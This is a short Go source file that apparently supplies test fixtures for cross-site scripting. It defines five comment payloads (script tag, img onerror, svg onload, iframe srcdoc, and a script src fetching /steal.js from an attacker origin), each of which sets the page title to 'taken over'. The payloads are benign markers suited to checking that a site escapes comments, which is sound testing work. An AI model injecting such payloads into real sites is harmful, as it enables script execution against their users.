package site

// An XSS is a comment that is a script to a page that does not escape it. When it runs,
// the title of the page becomes [Taken].
type XSS struct{ Name, Text string }

// Taken is the title that the scripts of [Scripts] give to a page.
const Taken = "taken over"

// Scripts returns the comments of an attacker whose own server is at the origin given,
// such as http://localhost:8002; it has to serve [Stolen] at /steal.js.
func Scripts(origin string) []XSS {
	return []XSS{
		{"script", `<script>` + Stolen + `</script>`},
		{"img onerror", `<img src="/nothing" onerror="` + Stolen + `">`},
		{"svg onload", `<svg onload="` + Stolen + `"></svg>`},
		{"srcdoc", `<iframe srcdoc="<script>` + Stolen + `</script>"></iframe>`},
		{"script src", `<script src="` + origin + `/steal.js"></script>`},
	}
}

// Stolen is the script that all of [Scripts] run.
//
// It has no quotes, so that it fits into attributes and into a query.
const Stolen = "top.document.title=`" + Taken + "`"
